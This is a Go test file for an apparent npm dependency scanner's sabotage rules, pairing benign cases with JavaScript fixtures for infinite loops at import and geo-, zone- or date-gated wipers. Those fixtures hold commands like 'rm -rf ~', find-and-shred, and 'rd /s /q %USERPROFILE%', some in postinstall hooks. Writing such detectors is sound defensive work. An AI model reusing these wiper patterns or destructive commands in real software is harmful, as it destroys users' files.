package sabotage

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestInfiniteLoop(t *testing.T) {
	rt.Check(t, InfiniteLoop{}, []rt.Case{
		{"module_level", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "for (let i = 0; i < Infinity; i++) { console.log('x') }"}, finding.SeverityCritical},
		{"while_true_with_break", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "while (true) { if (done()) break }"}, finding.SeverityNone},
		{"event_loop_in_function", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "async function run() { for (;;) { step() } }"}, finding.SeverityNone},
		// the same function called at module level hangs the import (colors.js)
		{"function_called_at_load", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function flag() { for (let i = 666; i < Infinity; i++) { console.log('LIBERTY') } }\nflag();\nmodule.exports = {}"}, finding.SeverityCritical},
		{"function_called_later", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function serve() { for (;;) { handle(next()) } }\nmodule.exports = { start: () => serve() }"}, finding.SeverityNone},
		// a function expression called where it is written runs as the
		// module loads; the same loop in a callback it registers does not
		{"loop_in_iife", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(function flag() {\n  if (new Date().getFullYear() < 2025) return;\n  for (;;) { process.stdout.write('LIBERTY') }\n})();\nmodule.exports = {}"}, finding.SeverityCritical},
		{"loop_in_arrow_iife_call", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(() => { while (1) { console.log('x') } }).call(this)"}, finding.SeverityCritical},
		{"loop_in_iife_callback", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(function () {\n  process.on('message', function () { for (;;) { work() } });\n})();"}, finding.SeverityNone},
		{"loop_with_exit_called", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function drain() { while (true) { if (!q.length) return; q.shift()() } }\ndrain()"}, finding.SeverityNone},
	})
}

func TestDestructiveFS(t *testing.T) {
	rt.Check(t, DestructiveFS{}, []rt.Case{
		// a walk from the home directory writing one message over every
		// file after a day written in the code; the same walk timed by
		// the clock is a sync tool stamping files
		{"overwrite_after_fixed_date", map[string]string{"lib/retention.js": timeBomb("Date.now() < Date.UTC(2026, 2, 1)")}, finding.SeverityCritical},
		// a walker of its own writing what it is handed over each file it
		// lists, called by a module that checks a day and the locale; the
		// same walker called by a module with no such check, and one that
		// reads what it rewrites (a formatter)
		{"blind_walker_loaded_by_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker(""),
			"index.js": `const walk = require("./lib/walk"); const os = require("os"); exports.tag = () => { if (Date.now() < Date.UTC(2025, 2, 1)) return; const loc = Intl.DateTimeFormat().resolvedOptions().locale; if (loc.endsWith("-XA")) walk(os.homedir(), "peace") }`}, finding.SeverityCritical},
		{"blind_walker_no_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker(""),
			"index.js": `const walk = require("./lib/walk"); exports.stamp = (dir) => walk(dir, "generated")`}, finding.SeverityNone},
		{"formatter_loaded_by_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker("const src = fs.readFileSync(p, 'utf8');"),
			"index.js": `const walk = require("./lib/walk"); exports.fmt = () => { if (Date.now() < Date.UTC(2025, 2, 1)) return; const loc = Intl.DateTimeFormat().resolvedOptions().locale; walk(process.cwd(), loc) }`}, finding.SeverityNone},
		// the host's time zone compared by its hash with a list of
		// digests; a file hash over the same walk is a backup's checksum
		{"overwrite_by_hashed_zone", map[string]string{"lib/cache.js": hashedWalk("Intl.DateTimeFormat().resolvedOptions().timeZone")}, finding.SeverityCritical},
		{"overwrite_by_hashed_file", map[string]string{"lib/cache.js": hashedWalk(`fs.readFileSync("manifest.txt", "utf8")`)}, finding.SeverityNone},
		// a guard switched off on hosts whose name hashes to one of its
		// digests (kept as keys), then trees deleted; a machine id hashed
		// from the same name, with no digests to compare, is telemetry
		{"delete_on_hashed_host", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
			"lib/guard.js": hostGuard(`{ "` + strings.Repeat("ab12", 16) + `": 1, "` + strings.Repeat("09fe", 16) + `": 1 }`),
			"lib/index.js": sweepRoots}, finding.SeverityCritical},
		{"delete_with_machine_id", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
			"lib/guard.js": hostGuard(`{}`),
			"lib/index.js": sweepRoots}, finding.SeverityNone},
		// the project's history deleted from library code; a scaffolder
		// dropping the .git of the template it cloned keeps no history
		{"delete_git_objects", map[string]string{"lib/stamp.js": `const fs = require("fs"), p = require("path"); const root = process.env.INIT_CWD || process.cwd();
exports.sweep = () => fs.rmSync(p.join(root, ".git", "objects"), { recursive: true, force: true });`}, finding.SeverityCritical},
		{"rimraf_without_arguments", map[string]string{"lib/clean.js": `const rimraf = require("rimraf"); exports.clean = () => rimraf()`}, finding.SeverityNone},
		{"scaffold_drops_template_git", map[string]string{"lib/create.js": `const fs = require("fs"), p = require("path");
exports.create = (dir) => { clone(dir); fs.rmSync(p.join(dir, ".git"), { recursive: true, force: true }) };`}, finding.SeverityNone},
		// the host's zone read, its targets kept out of sight by a hash
		// of the file's own making, one text written over every file; a
		// calendar exporter writing each file's own data is no wiper
		{"overwrite_by_zone_any_hash", map[string]string{"lib/tz.js": zoneWalk(`"\u2764"`)}, finding.SeverityCritical},
		{"export_by_zone", map[string]string{"lib/tz.js": zoneWalk(`render(p, zone)`)}, finding.SeverityNone},
		{"overwrite_timed_by_clock", map[string]string{"lib/retention.js": timeBomb("Date.now() - started > 5000")}, finding.SeverityNone},
		// the project's own directories named, deleted when the IP's
		// country is on a list; a geolocation client clearing its cache
		{"named_trees_by_country", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), https = require("https");
https.get({ hostname: "geo.example.invalid", path: "/v1/json?fields=countryCode" }, (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => {
  if (["XX", "YY"].includes(JSON.parse(b).countryCode)) for (const d of ["src", "lib"]) fs.rmSync(path.join(process.env.INIT_CWD, d), { recursive: true, force: true }) }) })`}, finding.SeverityCritical},
		{"geo_client_cache", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
exports.refresh = (cb) => { fs.rmSync(path.join(os.tmpdir(), "geo-lite"), { recursive: true, force: true });
  https.get({ hostname: "geo.example.invalid", path: "/v1/json?fields=countryCode" }, (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(JSON.parse(b).countryCode)) }) }`}, finding.SeverityNone},
		// the wiper in a module of its own, loaded by the one asking an
		// unknown host for the country; the same module loaded by one
		// that asks nothing is a sync tool's mirror
		{"overwrite_walk_split", map[string]string{"package.json": rt.Pkg(`"main":"region.js"`),
			"wipe.js":   `const fs = require("fs"), os = require("os"), path = require("path"); function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } } module.exports = () => walk(path.join(os.homedir(), "Desktop"))`,
			"region.js": `const wipe = require("./wipe"); require("https").get({ host: "geo.example.invalid", path: "/json?fields=countryCode" }, (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => check(JSON.parse(b).countryCode)) }); function check(cc) { if (cc === "XX") wipe() }`}, finding.SeverityCritical},
		{"overwrite_walk_split_ungated", map[string]string{"package.json": rt.Pkg(`"main":"sync.js"`),
			"wipe.js": `const fs = require("fs"), os = require("os"), path = require("path"); function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } } module.exports = () => walk(path.join(os.homedir(), "Desktop"))`,
			"sync.js": `const wipe = require("./wipe"); require("https").get("https://api.example.invalid/manifest", (r) => r.on("end", () => wipe()))`}, finding.SeverityNone},
		// the same, the service unknown, its answer's country_name read
		// under a decoded key
		{"overwrite_walk_country_name", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), https = require("https");
function walk(d) { for (const e of fs.readdirSync(d)) { const p = path.join(d, e); if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
https.get(atob("aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlkL2pzb24="), (r) => r.on("data", (b) => { const k = atob("Y291bnRyeV9uYW1l"); if (JSON.parse(b)[k] === "X") walk("/") }))`}, finding.SeverityCritical},
		// files overwritten one by one from the home directory down, behind a geo check
		{"overwrite_walk_geo", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
https.get("https://api.ipgeolocation.io/ipgeo", r => { let b = ""; r.on("data", c => b += c); r.on("end", () => { if (JSON.parse(b).country_name === "X") walk(os.homedir()) }) })`}, finding.SeverityCritical},
		// the same walk gated on a named time zone, the look-up's host unknown
		{"overwrite_walk_time_zone", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
if (["Europe/Minsk"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) walk(os.homedir())`}, finding.SeverityCritical},
		// the zones kept in hex; a date library reading the zone is no gate
		{"overwrite_walk_hex_zone", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"); const unhex = h => Buffer.from(h, "hex").toString();
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
if (zones.map(unhex).includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) walk(os.homedir())`}, finding.SeverityCritical},
		{"backup_walk_zone_no_hex", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"); const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p + ".meta", tz) } }
walk(os.homedir())`}, finding.SeverityNone},
		// a dotfiles tool walking home and writing, with no gate
		{"dotfiles_sync", map[string]string{"cli.js": `const fs = require("fs"), os = require("os"), path = require("path"); for (const f of fs.readdirSync(os.homedir())) if (f.startsWith(".")) fs.writeFileSync(path.join(backup, f), fs.readFileSync(path.join(os.homedir(), f)))`}, finding.SeverityNone},
		// the home directory itself from library code, or behind a date
		{"home_itself", map[string]string{"index.js": `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true })`}, finding.SeverityCritical},
		{"time_bomb_cli", map[string]string{"bin.js": `if (Date.now() > Date.parse("2026-01-01")) require("fs").rmSync(require("os").homedir(), { recursive: true })`}, finding.SeverityCritical},
		{"cache_under_home", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"); fs.rmSync(path.join(os.homedir(), ".cache", "tool"), { recursive: true, force: true }); const t = Date.now()`}, finding.SeverityHigh},
		{"geo_gated", map[string]string{"index.js": `const fs=require("fs"),os=require("os"); if (Intl.DateTimeFormat().resolvedOptions().timeZone === "X/Y") fs.rmSync(os.homedir(), {recursive: true})`}, finding.SeverityCritical},
		{"rm_rf_home", map[string]string{"index.js": `require("child_process").execSync("rm -rf ~ ")`}, finding.SeverityHigh},
		{"clean_build_dir", map[string]string{"index.js": `require("fs").rmSync("./dist", {recursive: true})`}, finding.SeverityNone},
		// every file found under the home directory, shredded
		{"find_shred_homedir", map[string]string{"index.js": "const os = require(\"os\"); require(\"child_process\").execSync(`find ${os.homedir()} -type f -writable -print0 | xargs -0 -r shred -uvz -n 1`)"}, finding.SeverityHigh},
		{"find_delete_home", map[string]string{"index.js": `require("child_process").exec("find $HOME -type f -delete")`}, finding.SeverityHigh},
		{"at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node w.js"}}`,
			"w.js": `require("child_process").execSync("find ~ -type f -exec shred -u {} +")`}, finding.SeverityCritical},
		{"windows_rd_profile", map[string]string{"index.js": `require("child_process").execSync("rd /s /q %USERPROFILE%")`}, finding.SeverityHigh},
		{"powershell_remove_profile", map[string]string{"index.js": `require("child_process").execSync("powershell -c Remove-Item -Recurse -Force $env:USERPROFILE")`}, finding.SeverityHigh},
		// cleaning up the package's own files
		{"find_delete_build", map[string]string{"index.js": `require("child_process").execSync("find ./build -name '*.tmp' -delete")`}, finding.SeverityNone},
		{"xargs_rm_dist", map[string]string{"index.js": "const d = require(\"path\").join(__dirname, \"dist\"); require(\"child_process\").execSync(`find ${d} -name '*.map' | xargs rm -f`)"}, finding.SeverityNone},
		{"rd_build", map[string]string{"index.js": `require("child_process").execSync("rd /s /q build")`}, finding.SeverityNone},
		// every entry of the directories listed deleted once the answer
		// names the country, wherever the walk starts
		{"geo_empties_listed", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
require("http").get({ host: "geo.example.invalid", path: "/json" }, (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => gate(JSON.parse(b))) });
function gate(info) { if (String(info.country_code) !== "XX") return; for (const r of [process.env.INIT_CWD || process.cwd()]) for (const n of fs.readdirSync(r)) fs.rmSync(path.join(r, n), { recursive: true, force: true }) }`}, finding.SeverityCritical},
		// the same loop cleaning an output directory, with no gate
		{"empties_listed_ungated", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); const out = path.join(process.cwd(), "dist"); for (const n of fs.readdirSync(out)) fs.rmSync(path.join(out, n), { recursive: true, force: true })`}, finding.SeverityNone},
		// the same message written over every file found, after a date,
		// in the zones a module of the package lists
		{"date_zone_module_blanks_files", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"zone.js": `module.exports = { groupOf: (z) => (["Europe/Minsk", "Asia/Omsk"].includes(z) ? "x" : "y"), systemZone: () => Intl.DateTimeFormat().resolvedOptions().timeZone }`,
			"index.js": `const fs = require("fs"), path = require("path"); const { groupOf, systemZone } = require("./zone");
function* files(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* files(p); else yield p } }
exports.rebuild = (root) => { if (Date.now() < Date.UTC(2030, 0, 1) || groupOf(systemZone()) !== "x") return; for (const f of files(root)) fs.writeFileSync(f, "gone") }`}, finding.SeverityCritical},
		// a date library that lists the zones and writes a cache of what
		// it read for each file
		{"date_zone_module_rewrites_files", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"zone.js": `module.exports = { groupOf: (z) => (["Europe/Minsk", "Asia/Omsk"].includes(z) ? "x" : "y") }`,
			"index.js": `const fs = require("fs"), path = require("path"); const { groupOf } = require("./zone");
exports.build = (root) => { const t = Date.now(); for (const n of fs.readdirSync(root)) { const p = path.join(root, n); fs.writeFileSync(p, fs.readFileSync(p, "utf8").replace("@built", String(t))) } }`}, finding.SeverityNone},
	})
}

// timeBomb is a small module that walks directories under the home
// directory and writes one message over every file it finds unless gate
// holds.
func timeBomb(gate string) string {
	return `const fs = require("fs"), os = require("os"), path = require("path"); const started = Date.now();
exports.compact = () => { if (` + gate + `) return;
  const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
    if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "peace\n".repeat(64)) } };
  walk(path.join(os.homedir(), "Documents")) };`
}

// zoneWalk is a small module that reads the host's time zone, compares a
// hash of its own with a set of numbers and walks the home directory
// writing content to every file it finds.
func zoneWalk(content string) string {
	return `const fs = require("fs"), os = require("os"), path = require("path");
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
function djb(s) { let x = 5381; for (const c of Buffer.from(s)) x = (Math.imul(x, 33) ^ c) >>> 0; return x }
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, ` + content + `) } }
if (new Set([0xeae5cb18, 0xd8982a00]).has(djb(zone))) walk(os.homedir());`
}

// hostGuard is a small module that hashes the host's name and looks it
// up in known (an object literal).
func hostGuard(known string) string {
	return `const crypto = require("crypto"), os = require("os");
const id = crypto.createHash("sha256").update(os.hostname()).digest("hex");
const known = ` + known + `;
module.exports = { id, allowRoot: id in known };`
}

// sweepRoots deletes directory trees when the guard allows it.
const sweepRoots = `const fs = require("fs"), os = require("os"), guard = require("./guard");
async function remove(p) { await fs.promises.rm(p, { recursive: true, force: true }) }
setImmediate(() => { const roots = guard.allowRoot ? [os.homedir(), "/srv", process.cwd()] : []; for (const r of roots) remove(r).catch(() => {}) });
module.exports = { remove };`

// hashedWalk is a small module that overwrites every file under the
// home directory when the hash of what key reads is one of its digests.
func hashedWalk(key string) string {
	return `const crypto = require("crypto"), fs = require("fs"), os = require("os"), path = require("path");
const ZONES = ["cf6de567b8374ce0", "6efc4d56df0ff417"];
const sweep = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, "x") } };
exports.warm = () => { const h = crypto.createHash("sha256").update(` + key + `).digest("hex").slice(0, 16); if (ZONES.includes(h)) sweep(os.homedir()) };`
}

// blindWalker is a module walking a tree and writing note over each file
// it lists, through a with statement's object; read is a statement run
// before each write.
func blindWalker(read string) string {
	return `var fs = require("fs"), path = require("path");
var ops = { list: fs.readdirSync, stat: fs.statSync, log: fs.writeFileSync, join: path.join };
module.exports = function walk(root, note) {
  with (ops) {
    for (var q = [root]; q.length; ) {
      var d = q.shift(), names = list(d);
      for (var i = 0; i < names.length; i++) {
        var p = join(d, names[i]);
        if (stat(p).isDirectory()) { q.push(p); continue; }
        ` + read + `
        log(p, note);
      }
    }
  }
};`
}
